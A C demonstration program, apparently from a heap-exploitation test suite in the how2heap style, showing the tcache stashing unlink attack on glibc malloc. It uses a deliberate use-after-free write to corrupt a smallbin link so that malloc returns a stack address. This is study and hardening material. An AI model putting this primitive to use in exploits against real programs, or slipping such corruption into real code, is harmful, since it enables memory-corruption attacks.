/* Technique: tcache stashing unlink attack (how2heap
   tcache_stashing_unlink_attack).

   Goal: malloc returns a chosen address (a fake chunk on the stack);
   on the way a libc address (the smallbin header) is written to a
   chosen stack word.

   How: two 0xa0 chunks (chunk0, chunk2) sit in the smallbin while the
   0xa0 tcache bin holds 5 entries.  A use-after-free write sets
   chunk2->bk to the fake chunk, whose own bk points at writable stack.
   calloc (which does not take from the tcache) takes chunk0 from the
   smallbin -- only chunk0's links are checked -- and then "stashes"
   the rest of the smallbin into the tcache without checks: chunk2,
   then the fake chunk, writing the bin address into fake->bk->fd on
   the way.  The next malloc of that size returns the fake chunk.  */
#include "attack.h"

int
main (void)
{
  attack_init ("tcache_stashing_unlink: smallbin bk rewritten, calloc stashes a fake chunk into the tcache");
  /* The fake chunk needs room for the next chunk's PREV_INUSE at
     fake + 0xa8.  */
  _Alignas (16) size_t stack_var[0x20] = { 0 };
  size_t *chunk[9];
  for (int i = 0; i < 9; i++)
    chunk[i] = malloc (0x90);
  say ("chunks %p .. %p fake chunk %p", chunk[0], chunk[8], stack_var);
  for (int i = 3; i < 9; i++)
    free (chunk[i]);
  free (chunk[1]);		/* tcache 0xa0 now full */
  free (chunk[0]);		/* unsorted */
  free (chunk[2]);		/* unsorted */
  void *big = malloc (0xa0);	/* chunk0, chunk2 into the smallbin */
  void *t1 = malloc (0x90);	/* two out of the tcache: 5 left */
  void *t2 = malloc (0x90);

  stack_var[3] = (size_t) &stack_var[2];	/* fake->bk: writable */
  chunk[2][1] = (size_t) stack_var;		/* use after free: chunk2->bk */

  void *c = calloc (1, 0x90);
  void *p = malloc (0x90);
  say ("big %p tcache %p %p; calloc = %p; malloc = %p; stack_var[4] = %#zx",
       big, t1, t2, c, p, stack_var[4]);
  if (p == (void *) &stack_var[2])
    reached ("malloc returned the stack address %p (and wrote %#zx at %p)",
	     p, stack_var[4], &stack_var[4]);
  no_effect ("malloc returned %p, not %p", p, &stack_var[2]);
}
